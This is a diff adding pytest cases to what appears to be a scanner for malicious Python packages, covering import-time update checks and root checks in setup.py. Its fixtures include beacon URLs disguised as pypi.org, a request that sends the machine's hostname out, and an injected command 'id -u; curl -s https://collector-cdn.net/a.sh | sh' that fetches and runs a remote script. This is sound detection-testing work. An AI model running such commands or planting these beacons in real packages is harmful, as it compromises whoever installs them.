@@ -2720,3 +2720,92 @@ def test_executing_the_decoded_data_itself_still_is(sink):
     )
     assert severities(result, "intent.decode-execute") == {"high"}
     assert result.verdict in FLAGGED
+
+
+# -- an update check asks the package index, which is no one's listener ------------------------
+
+_UPDATE_CHECK = """
+import requests
+
+__version__ = "1.0"
+
+
+def check_for_update():
+    try:
+        latest = requests.get({url}, timeout=5).json()["info"]["version"]
+    except requests.RequestException:
+        return
+    if latest != __version__:
+        print("a newer release is out:", latest)
+
+
+check_for_update()
+"""
+
+
+@pytest.mark.parametrize(
+    "url", ['"https://pypi.org/pypi/demo/json"', 'f"https://pypi.org/pypi/{__name__}/json"']
+)
+def test_an_update_check_against_the_package_index_on_import_is_not_a_beacon(url):
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _UPDATE_CHECK.format(url=url)})
+    assert not found(result, "indicator.import-beacon")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        '"https://pypi.org.collector-cdn.net/pypi/demo/json"',  # another host
+        '"https://pypi.org@collector-cdn.net/pypi/demo/json"',  # a user part: elsewhere
+        '"https://pypi.org:443@collector-cdn.net/x"',
+        'f"https://pypi.org{SUFFIX}"',  # the host is not complete in the code
+        '"http://pypi.org/pypi/demo/json"',  # in the clear: anyone on the way reads it
+        '"https://collector-cdn.net/pypi/demo/json"',
+    ],
+)
+def test_a_beacon_dressed_as_the_index_still_is(url):
+    source = _UPDATE_CHECK.format(url=url).replace("import requests", "import requests\nSUFFIX=''")
+    result = scan({"setup.py": SETUP, "demo/__init__.py": source})
+    assert severities(result, "indicator.import-beacon") == {"high"}
+    assert result.verdict in FLAGGED
+
+
+def test_a_request_to_the_index_that_carries_the_host_still_is_a_beacon():
+    source = _UPDATE_CHECK.format(
+        url='"https://pypi.org/pypi/demo/json", params={"h": __import__("socket").gethostname()}'
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": source})
+    assert found(result, "indicator.import-beacon") or found(result, "intent.exfiltration")
+    assert result.verdict in FLAGGED
+
+
+# -- asking whether the build runs as root is a build question ----------------------------------
+
+_ROOT_CHECK = """
+import subprocess
+from setuptools import setup
+
+
+def is_root():
+    return int(subprocess.check_output({command!r}, shell=True)) == 0
+
+
+PREFIX = "/usr/local" if is_root() else "~/.local"
+setup(name="demo")
+"""
+
+
+def test_setup_asking_id_whether_it_runs_as_root_is_a_build_command():
+    result = scan({"setup.py": _ROOT_CHECK.format(command="id -u")})
+    assert severities(result, "capability.process") == {"low"}  # as uname -m, pkg-config
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command", ["idle -u", "id -u; curl -s https://collector-cdn.net/a.sh | sh", "whoami.exe"]
+)
+def test_other_commands_at_install_still_are_high(command):
+    result = scan({"setup.py": _ROOT_CHECK.format(command=command)})
+    worst = {f.severity for f in result.findings if f.rule.startswith(("capability", "intent"))}
+    assert worst & {"high", "critical"}
+    assert result.verdict in FLAGGED
